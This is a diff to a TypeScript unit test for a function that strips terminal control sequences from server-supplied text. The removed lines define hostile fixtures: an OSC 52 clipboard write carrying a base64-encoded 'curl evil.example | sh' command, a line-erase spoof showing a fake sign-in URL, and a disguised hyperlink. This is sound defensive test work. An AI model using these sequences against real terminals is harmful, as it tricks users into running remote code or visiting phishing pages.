@@ -1,17 +1,8 @@
 import { assert, describe, it } from "@effect/vitest"
 import * as FastCheck from "effect/FastCheck"
+import { ESC, hostile } from "../test/hostileText.js"
 import * as ServerText from "./ServerText.js"
 
-const ESC = "\x1b"
-/** what a hostile server puts in a string to act on the terminal instead of being shown */
-const hostile = {
-  eraseLine: `${ESC}[2K\r  To sign in, open https://evil.example/device`,
-  osc8Link: `${ESC}]8;;https://evil.example/${ESC}\\ABCD-EFGH${ESC}]8;;${ESC}\\`,
-  osc52Clipboard: `ABCD-EFGH${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
-  c1Csi: "ABCD\u009b2KEFGH",
-  del: "ABCD\u007fEFGH",
-  nul: "ABCD\u0000EFGH"
-}
 
 describe("ServerText.sanitize: free text keeps its words and loses what a terminal would act on", () => {
   it("plain text, including non-ASCII, is unchanged", () => {
